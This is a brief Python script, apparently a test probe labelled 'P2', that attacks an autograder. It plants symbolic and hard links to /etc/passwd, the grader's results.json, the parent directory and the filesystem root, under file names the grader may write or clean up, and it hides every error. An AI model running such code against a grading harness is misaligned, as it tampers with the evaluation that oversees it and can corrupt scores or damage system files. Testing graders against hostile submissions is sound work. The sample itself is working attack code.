# P2: leave symbolic and hard links where the grader may write or clean up
def _attack():
    import os

    for target in ("/etc/passwd", "/autograder/results/results.json", "..", "/"):
        for name in ("results.json", "out", "scores.csv", "link", "../results.json", "../submission/link"):
            for link in (os.symlink, os.link):
                try:
                    link(target, name + str(len(target)))
                except OSError:
                    pass


try:
    _attack()
except BaseException:
    pass
